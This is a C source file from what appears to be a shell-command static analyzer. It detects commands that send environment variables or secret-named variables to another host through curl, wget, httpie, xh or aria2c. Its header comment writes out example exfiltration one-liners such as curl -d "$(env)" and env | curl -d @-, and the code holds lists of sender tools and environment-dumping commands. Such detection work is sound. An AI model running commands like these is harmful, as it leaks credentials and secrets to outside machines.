/* SPDX-License-Identifier: MIT
 * The environment and credentials among the words of programs that send them to another machine:
 * curl -d "$(env)", wget "https://host/?$API_TOKEN", env | curl -d @-. */
#include "analyzer/lang/shell/command.h"

#include <ctype.h>
#include <string.h>

enum { SECRET = 1, ENVIRONMENT = 2 };

/* Programs that send their words, and their options for headers and passwords: a key in these
 * identifies the program to the host that issued the key. Each name has blanks around it. */
static const struct sender {
    const char *name, *for_keys;
} senders[] = {
    { "curl",
      " -H --header -u --user --oauth2-bearer --proxy-header -U --proxy-user -b --cookie -E "
      "--cert --key --pass " },
    { "wget",
      " --header --user --password --http-user --http-password --ftp-user --ftp-password " },
    { "http", " -a --auth -A " },
    { "https", " -a --auth -A " },
    { "xh", " -a --auth -A " },
    { "aria2c", " --header --http-user --http-passwd " },
};

static const struct sender *find_sender(struct cbx_str name)
{
    for (size_t i = 0; i < CBX_SHELL_COUNT(senders); i++) {
        if (cbx_str_is(name, senders[i].name)) {
            return &senders[i];
        }
    }
    return NULL;
}

static bool is_name(char c)
{
    return isalnum((unsigned char)c) || c == '_';
}

/* Returns true for a command that prints all variables. */
static bool prints_environment(struct cbx_str command)
{
    static const char *const words[] = { "env",     "printenv", "export", "declare",
                                         "typeset", "set",      "compgen" };
    size_t from = 0, end;
    while (from < command.len && isspace((unsigned char)command.p[from])) {
        from++;
    }
    for (end = from; end < command.len && is_name(command.p[end]); end++) {
    }
    struct cbx_str word = cbx_str_sub(command, from, end), rest = command;
    for (size_t i = 0; i < CBX_SHELL_COUNT(words); i++) {
        if (cbx_str_is(word, words[i])) {
            rest = cbx_str_sub(command, end, command.len);
            /* `printenv NAME`, `declare -i x=1` print one, or none */
            bool named = rest.len > 1 && isalpha((unsigned char)rest.p[1]);
            return !named;
        }
    }
    return false;
}

/* Returns the flags of the expansions in a word, as it stands in the text. */
static uint32_t flags_of(struct cbx_str raw)
{
    uint32_t flags = 0;
    bool single = false, quoted = false;
    for (size_t i = 0; i < raw.len; i++) {
        char c = raw.p[i];
        single ^= c == '\'' && !quoted;
        quoted ^= c == '"' && !single;
        if (single || (c != '$' && c != '`')) {
            continue;
        }
        size_t at = i + 1;
        bool command = c == '`' || (at < raw.len && raw.p[at] == '(');
        at += at < raw.len && (raw.p[at] == '{' || raw.p[at] == '(') ? 1 : 0;
        size_t end = at;
        while (end < raw.len && is_name(raw.p[end])) {
            end++;
        }
        if (command) {
            const char *close = memchr(raw.p + at, c == '`' ? '`' : ')', raw.len - at);
            size_t stop = close != NULL ? (size_t)(close - raw.p) : raw.len;
            flags |= prints_environment(cbx_str_sub(raw, at, stop)) ? ENVIRONMENT : 0;
        } else {
            flags |= cbx_is_secret_name(cbx_str_sub(raw, at, end)) ? SECRET : 0;
        }
    }
    return flags;
}

static struct cbx_str raw_of(const struct cbx_shell_command *c, size_t w)
{
    struct cbx_str text = c->s->parsed->text;
    const struct cbx_word *word = &c->words[w];
    return word->start < word->end && word->end <= text.len
               ? cbx_str_sub(text, word->start, word->end)
               : CBX_STR("");
}

/* Returns the length of the option for keys that begins this word; 0 for another word. */
static size_t key_option(const struct sender *sender, struct cbx_str raw)
{
    size_t end = raw.len > 1 && raw.p[0] == '-' && raw.p[1] != '-' ? 2 : 0;
    while (raw.len > 2 && raw.p[0] == '-' && raw.p[1] == '-' && end < raw.len &&
           raw.p[end] != '=') {
        end++;
    }
    char name[32];
    if (end == 0 || end + 3 > sizeof(name)) {
        return 0;
    }
    name[0] = ' ';
    memcpy(name + 1, raw.p, end);
    name[end + 1] = ' ';
    name[end + 2] = '\0';
    return strstr(sender->for_keys, name) != NULL ? end : 0;
}

/* Returns true if the program sends its standard input. */
static bool sends_input(const struct cbx_shell_command *c)
{
    for (size_t w = 1; w < c->count; w++) {
        struct cbx_str word = c->words[w].text;
        if (c->words[w].known && (cbx_str_is(word, "-") || cbx_str_ends(word, CBX_STR("@-")) ||
                                  cbx_str_ends(word, CBX_STR("=-")))) {
            return true;
        }
    }
    return false;
}

void cbx_shell_check_sent(const struct cbx_shell_command *c, struct cbx_str name)
{
    const struct sender *sender = find_sender(name);
    uint32_t flags = 0;
    bool key = false;
    for (size_t w = 1; sender != NULL && w < c->count; w++) {
        struct cbx_str raw = raw_of(c, w);
        size_t option = key_option(sender, raw);
        uint32_t own = flags_of(raw);
        flags |= key || option > 0 ? own & ENVIRONMENT : own;
        key = option > 0 && option == raw.len;
    }
    const struct cbx_shell_input *input = &c->s->input;
    if (sender != NULL && input->source == CBX_SHELL_OUTPUT && sends_input(c)) {
        TSNode up = ts_node_parent(input->node); /* the first command of the pipeline counts */
        TSNode from = cbx_shell_type_is(up, "pipeline") ? up : input->node;
        flags |= prints_environment(cbx_shell_source_of(c->s, from)) ? ENVIRONMENT : 0;
    }
    if (flags != 0) {
        cbx_facts_add_special(c->s->parsed->facts, CBX_FACT_SECRET_SENT, name, c->words[0].start,
                              c->words[c->count - 1].end);
    }
}
